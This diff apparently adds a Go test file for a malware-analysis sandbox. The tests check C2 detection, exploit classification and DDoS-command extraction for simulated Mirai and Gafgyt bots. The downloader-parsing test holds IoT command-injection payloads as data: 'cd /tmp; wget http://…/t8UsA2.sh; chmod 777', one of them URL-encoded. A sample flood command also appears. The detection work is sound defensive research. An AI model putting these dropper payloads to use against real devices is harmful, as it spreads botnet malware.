@@ -1,0 +1,292 @@
+package core
+
+import (
+	"math/rand"
+	"net/netip"
+	"testing"
+	"time"
+
+	"malnet/internal/binfmt"
+	"malnet/internal/c2"
+	"malnet/internal/intel"
+	"malnet/internal/sandbox"
+	"malnet/internal/simclock"
+	"malnet/internal/simnet"
+)
+
+var t0 = time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC)
+
+// runSample encodes and runs one sample in a fresh environment,
+// returning the report.
+func runSample(t *testing.T, cfg binfmt.BotConfig, opts sandbox.RunOptions, setup func(n *simnet.Network)) *sandbox.Report {
+	t.Helper()
+	clock := simclock.New(t0)
+	n := simnet.New(clock, simnet.DefaultConfig())
+	if setup != nil {
+		setup(n)
+	}
+	sb := sandbox.New(n, sandbox.Config{Seed: 1})
+	raw, err := binfmt.Encode(cfg, rand.New(rand.NewSource(11)), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rep, err := sb.Run(raw, opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rep
+}
+
+func TestDetectC2FindsIPEndpoint(t *testing.T) {
+	rep := runSample(t, binfmt.BotConfig{
+		Family: "mirai", Variant: "v1", C2Addrs: []string{"60.0.0.9:23"},
+	}, sandbox.RunOptions{Mode: sandbox.ModeIsolated, Duration: 10 * time.Minute}, nil)
+	cands := DetectC2(rep, 2)
+	if len(cands) != 1 {
+		t.Fatalf("candidates = %d, want 1", len(cands))
+	}
+	c := cands[0]
+	if c.Address != "60.0.0.9:23" || c.Kind != intel.KindIP || c.Port != 23 {
+		t.Fatalf("candidate = %+v", c)
+	}
+	if c.Signature != "mirai-handshake" {
+		t.Fatalf("signature = %q", c.Signature)
+	}
+	if !c.Live {
+		t.Fatal("InetSim session should count as live engagement")
+	}
+}
+
+func TestDetectC2FindsDNSEndpoint(t *testing.T) {
+	rep := runSample(t, binfmt.BotConfig{
+		Family: "gafgyt", Variant: "v1", C2Addrs: []string{"cnc.bot.example:6667"},
+	}, sandbox.RunOptions{Mode: sandbox.ModeIsolated, Duration: 10 * time.Minute}, nil)
+	cands := DetectC2(rep, 2)
+	if len(cands) != 1 {
+		t.Fatalf("candidates = %d, want 1", len(cands))
+	}
+	if cands[0].Address != "cnc.bot.example:6667" || cands[0].Kind != intel.KindDNS {
+		t.Fatalf("candidate = %+v", cands[0])
+	}
+}
+
+func TestDetectC2IgnoresScanTraffic(t *testing.T) {
+	rep := runSample(t, binfmt.BotConfig{
+		Family: "gafgyt", Variant: "v1", C2Addrs: []string{"60.0.0.9:6667"},
+		ScanPorts: []uint16{80}, ExploitIDs: []string{"gpon-rce"},
+	}, sandbox.RunOptions{Mode: sandbox.ModeIsolated, Duration: 20 * time.Minute, HandshakerThreshold: 20}, nil)
+	cands := DetectC2(rep, 2)
+	for _, c := range cands {
+		if c.Port == 80 {
+			t.Fatalf("scan endpoint classified as C2: %+v", c)
+		}
+	}
+	if len(cands) != 1 {
+		t.Fatalf("candidates = %d, want 1 (only the true C2)", len(cands))
+	}
+}
+
+func TestDetectC2DeadServerStillDetected(t *testing.T) {
+	// In live mode with a dead C2, the repeated SYN attempts alone
+	// must reveal the endpoint (no payload ever flows).
+	rep := runSample(t, binfmt.BotConfig{
+		Family: "mirai", Variant: "v1", C2Addrs: []string{"60.0.0.9:23"},
+	}, sandbox.RunOptions{Mode: sandbox.ModeLive, Duration: 30 * time.Minute}, nil)
+	cands := DetectC2(rep, 2)
+	if len(cands) != 1 {
+		t.Fatalf("candidates = %d, want 1", len(cands))
+	}
+	if cands[0].Live {
+		t.Fatal("dead C2 marked live")
+	}
+	if cands[0].Attempts < 2 {
+		t.Fatalf("attempts = %d", cands[0].Attempts)
+	}
+}
+
+func TestLiveC2Helper(t *testing.T) {
+	if LiveC2([]C2Candidate{{Live: false}, {Live: true}}) != true {
+		t.Fatal("LiveC2 missed a live candidate")
+	}
+	if LiveC2(nil) {
+		t.Fatal("LiveC2(nil) = true")
+	}
+}
+
+func TestObservedLifespanFloorsAtOneDay(t *testing.T) {
+	if got := ObservedLifespan(t0, t0.Add(2*time.Hour)); got != 24*time.Hour {
+		t.Fatalf("lifespan = %v", got)
+	}
+	if got := ObservedLifespan(t0, t0.Add(72*time.Hour)); got != 72*time.Hour {
+		t.Fatalf("lifespan = %v", got)
+	}
+}
+
+func TestClassifyExploitsEndToEnd(t *testing.T) {
+	rep := runSample(t, binfmt.BotConfig{
+		Family: "gafgyt", Variant: "v1", C2Addrs: []string{"60.0.0.9:6667"},
+		ScanPorts: []uint16{80}, ExploitIDs: []string{"gpon-rce"},
+		LoaderName: "t8UsA2.sh", DownloaderAddr: "60.0.0.9:80",
+	}, sandbox.RunOptions{Mode: sandbox.ModeIsolated, Duration: 20 * time.Minute, HandshakerThreshold: 20}, nil)
+	findings := ClassifyExploits(rep)
+	if len(findings) != 1 {
+		t.Fatalf("findings = %d, want 1", len(findings))
+	}
+	f := findings[0]
+	if len(f.Vulns) != 1 || f.Vulns[0].Key != "gpon-rce" {
+		t.Fatalf("vulns = %+v", f.Vulns)
+	}
+	if f.Downloader != "60.0.0.9:80" || f.Loader != "t8UsA2.sh" {
+		t.Fatalf("downloader = %q loader = %q", f.Downloader, f.Loader)
+	}
+}
+
+func TestExtractDownloaderForms(t *testing.T) {
+	cases := []struct {
+		payload          string
+		wantAddr, wantLd string
+	}{
+		{"x`cd /tmp; wget http://60.0.0.5:80/t8UsA2.sh; chmod 777`", "60.0.0.5:80", "t8UsA2.sh"},
+		{"GET /shell?cd%20/tmp;%20wget%20http://60.0.0.5:80/jaws.sh;", "60.0.0.5:80", "jaws.sh"},
+		{"wget http://dl.example.com/wget.sh;", "dl.example.com:80", "wget.sh"},
+	}
+	for _, tc := range cases {
+		addr, ld, ok := ExtractDownloader([]byte(tc.payload))
+		if !ok || addr != tc.wantAddr || ld != tc.wantLd {
+			t.Errorf("ExtractDownloader(%q) = %q, %q, %v", tc.payload, addr, ld, ok)
+		}
+	}
+	if _, _, ok := ExtractDownloader([]byte("no fetch here")); ok {
+		t.Fatal("matched payload without wget")
+	}
+}
+
+// ddosFixture runs a sample against a live C2 that issues an attack.
+func ddosFixture(t *testing.T, family string, cmd c2.Command) (*sandbox.Report, []C2Candidate) {
+	t.Helper()
+	clock := simclock.New(t0)
+	n := simnet.New(clock, simnet.DefaultConfig())
+	srv := c2.NewServer(n, c2.ServerConfig{
+		Family: family, Addr: simnet.AddrFrom("60.0.0.9", 23),
+		Birth: t0, Death: t0.Add(100 * 24 * time.Hour), AlwaysOn: true,
+	})
+	srv.ScheduleAttack(t0.Add(5*time.Minute), cmd, 3)
+	sb := sandbox.New(n, sandbox.Config{Seed: 1})
+	raw, err := binfmt.Encode(binfmt.BotConfig{
+		Family: family, Variant: "v1", C2Addrs: []string{"60.0.0.9:23"},
+	}, rand.New(rand.NewSource(5)), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rep, err := sb.Run(raw, sandbox.RunOptions{Mode: sandbox.ModeLive, Duration: 30 * time.Minute, RestrictToC2: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rep, DetectC2(rep, 2)
+}
+
+func TestExtractDDoSProfileMirai(t *testing.T) {
+	victim := netip.MustParseAddr("70.0.0.7")
+	cmd := c2.Command{Attack: c2.AttackUDPFlood, Target: victim, Port: 80, Duration: 10 * time.Second}
+	rep, cands := ddosFixture(t, c2.FamilyMirai, cmd)
+	obs := ExtractDDoS(rep, c2.FamilyMirai, cands, DefaultDDoSExtractorConfig())
+	if len(obs) == 0 {
+		t.Fatal("no DDoS observations")
+	}
+	o := obs[0]
+	if o.Method != MethodProfile {
+		t.Fatalf("method = %s", o.Method)
+	}
+	if o.Command.Attack != c2.AttackUDPFlood || o.Command.Target != victim || o.Command.Port != 80 {
+		t.Fatalf("command = %+v", o.Command)
+	}
+	if !o.Verified {
+		t.Fatal("profile command not verified against flood traffic")
+	}
+	if o.C2 != "60.0.0.9:23" {
+		t.Fatalf("C2 = %q", o.C2)
+	}
+}
+
+func TestExtractDDoSProfileGafgytText(t *testing.T) {
+	victim := netip.MustParseAddr("70.0.0.8")
+	cmd := c2.Command{Attack: c2.AttackVSE, Target: victim, Port: 27015, Duration: 10 * time.Second}
+	rep, cands := ddosFixture(t, c2.FamilyGafgyt, cmd)
+	obs := ExtractDDoS(rep, c2.FamilyGafgyt, cands, DefaultDDoSExtractorConfig())
+	if len(obs) == 0 {
+		t.Fatal("no observations")
+	}
+	if obs[0].Command.Attack != c2.AttackVSE || !obs[0].Verified {
+		t.Fatalf("obs = %+v", obs[0])
+	}
+}
+
+func TestExtractDDoSHeuristicForUnprofiledFamily(t *testing.T) {
+	victim := netip.MustParseAddr("70.0.0.9")
+	cmd := c2.Command{Attack: c2.AttackUDPFlood, Target: victim, Port: 80, Duration: 10 * time.Second}
+	rep, cands := ddosFixture(t, c2.FamilyGafgyt, cmd)
+	// Pretend the family has no profile: force heuristic-only.
+	cfg := DefaultDDoSExtractorConfig()
+	cfg.ProfileFamilies = map[string]bool{}
+	obs := ExtractDDoS(rep, c2.FamilyGafgyt, cands, cfg)
+	if len(obs) != 1 {
+		t.Fatalf("observations = %d, want 1", len(obs))
+	}
+	o := obs[0]
+	if o.Method != MethodHeuristic {
+		t.Fatalf("method = %s", o.Method)
+	}
+	if o.Command.Target != victim {
+		t.Fatalf("target = %v", o.Command.Target)
+	}
+	if !o.Verified {
+		t.Fatal("heuristic verification failed: target IP is in the text command")
+	}
+}
+
+func TestExtractDDoSHeuristicThresholdSuppresses(t *testing.T) {
+	victim := netip.MustParseAddr("70.0.0.9")
+	cmd := c2.Command{Attack: c2.AttackUDPFlood, Target: victim, Port: 80, Duration: 10 * time.Second}
+	rep, cands := ddosFixture(t, c2.FamilyGafgyt, cmd)
+	cfg := DefaultDDoSExtractorConfig()
+	cfg.ProfileFamilies = map[string]bool{}
+	cfg.RateThreshold = 1e9 // nothing is that fast
+	if obs := ExtractDDoS(rep, c2.FamilyGafgyt, cands, cfg); len(obs) != 0 {
+		t.Fatalf("observations = %d above an impossible threshold", len(obs))
+	}
+}
+
+func TestExtractDDoSNoAttackNoObservations(t *testing.T) {
+	rep := runSample(t, binfmt.BotConfig{
+		Family: "mirai", Variant: "v1", C2Addrs: []string{"60.0.0.9:23"},
+	}, sandbox.RunOptions{Mode: sandbox.ModeIsolated, Duration: 10 * time.Minute}, nil)
+	cands := DetectC2(rep, 2)
+	if obs := ExtractDDoS(rep, c2.FamilyMirai, cands, DefaultDDoSExtractorConfig()); len(obs) != 0 {
+		t.Fatalf("observations = %d on idle session", len(obs))
+	}
+}
+
+func TestHeuristicAttackTypeInference(t *testing.T) {
+	if attackFromTraffic(simnet.ProtoICMP, 0) != c2.AttackBlacknurse {
+		t.Fatal("ICMP flood not classified as BLACKNURSE")
+	}
+	if attackFromTraffic(simnet.ProtoTCP, simnet.FlagSYN) != c2.AttackSYNFlood {
+		t.Fatal("SYN flood not classified")
+	}
+	if attackFromTraffic(simnet.ProtoUDP, 0) != c2.AttackUDPFlood {
+		t.Fatal("UDP flood not classified")
+	}
+}
+
+func TestTargetInCommandBinaryAndString(t *testing.T) {
+	ip := netip.MustParseAddr("10.1.2.3")
+	if !targetInCommand(ip, []byte("UDPRAW 10.1.2.3 80 60")) {
+		t.Fatal("string form not found")
+	}
+	if !targetInCommand(ip, []byte{0x00, 10, 1, 2, 3, 0x00}) {
+		t.Fatal("binary form not found")
+	}
+	if targetInCommand(ip, []byte("nothing")) {
+		t.Fatal("false positive")
+	}
+}
